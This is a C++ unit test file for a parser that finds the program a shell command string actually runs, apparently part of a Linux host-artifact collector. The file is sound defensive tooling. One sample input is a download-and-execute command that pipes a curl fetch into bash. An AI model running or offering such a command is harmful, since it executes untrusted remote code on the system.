#include "collectors/linux/shared/command_target.h"

#include <gtest/gtest.h>

namespace konseki {
namespace {

struct Sample {
  const char* command;
  const char* target;
};

TEST(CommandTarget, FindsWhatRuns) {
  const Sample kSamples[] = {
      {"/usr/bin/x --flag", "/usr/bin/x"},
      {"'/opt/with blank/x' y", "/opt/with blank/x"},
      {"A=1 B='2 3' /usr/bin/x", "/usr/bin/x"},
      {"nice -n 19 ionice -c3 /usr/bin/x", "/usr/bin/x"},
      {"sudo -u bob /usr/bin/x", "/usr/bin/x"},
      {"flock -n /run/lock/l /usr/bin/x", "/usr/bin/x"},
      {"/bin/sh /tmp/a.sh", "/tmp/a.sh"},
      {"bash -lc '/tmp/b --x'", "/tmp/b"},
      {"su - postgres -c \"/usr/bin/vacuum now\"", "/usr/bin/vacuum"},
      {"/usr/bin/python3.11 -m http.server", "/usr/bin/python3.11"},
      {"/usr/bin/python3 -c 'print(1)'", "/usr/bin/python3"},
      {"sh -c \"sh -c 'exec /x/y'\"", "/x/y"},
      {"> /dev/null 2>&1 /usr/bin/x", "/usr/bin/x"},
      {"python3 2> /tmp/err /srv/run.py", "/srv/run.py"},
      {"test -e /run/systemd || /usr/bin/x", "/usr/bin/x"},
      {"cd /srv && ./run", ""},
      {"curl http://192.0.2.1/a | bash", ""},
      {"", ""},
      {"'", ""},
      {"&&&&", ""},
  };
  for (const Sample& sample : kSamples) {
    EXPECT_EQ(command_target(sample.command), sample.target) << sample.command;
  }
}

std::string shell_quoted(const std::string& text) {
  std::string out = "\"";
  for (char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
  return out + '"';
}

TEST(CommandTarget, NestingAndWordsAreBounded) {
  std::string command = "/x";
  for (int depth = 1; depth <= 8; ++depth) {
    command = "sh -c " + shell_quoted(command);
    EXPECT_EQ(command_target(command), depth <= 4 ? "/x" : "") << depth;
  }
  EXPECT_EQ(shell_words(std::string(100'000, ';')).size(), 256U);
}

}  // namespace
}  // namespace konseki
